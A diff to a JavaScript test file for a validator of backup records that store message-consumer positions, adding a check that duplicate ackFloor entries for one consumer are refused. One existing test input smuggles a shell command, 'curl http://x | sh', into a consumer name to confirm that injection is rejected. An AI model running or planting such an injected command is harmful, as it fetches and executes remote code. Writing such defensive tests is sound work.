@@ -542,6 +542,9 @@ describe("the backup record", () => {
     expect(refused(position("orders-stock-reserved; curl http://x | sh #", 7))).toThrow("names no consumer of orders");
     expect(refused(position("products-order-placed", 7))).toThrow("names no consumer of orders");
     for (const ackFloor of ["7", -1, 1.5, null]) expect(refused(position("orders-stock-reserved", ackFloor))).toThrow("has no whole number for its ackFloor");
+    // Two floors for one consumer printed two redeliver commands for it, from 2 and from 8, and the restore went on.
+    const twice = JSON.stringify({ service: "orders", positions: [1, 7].map((ackFloor) => ({ stream: "SHOP_PRODUCTS", durable: "orders-stock-reserved", ackFloor })) });
+    expect(refused(twice)).toThrow(`${file} is no backup's record: it holds more than one floor for consumer orders-stock-reserved`);
     expect(refused(position("orders-stock-reserved", 7))()).toMatchObject({ positions: [{ durable: "orders-stock-reserved", ackFloor: 7 }] });
     expect(refused('{"service":"orders","positions":null}')()).toMatchObject({ positions: null });
   });
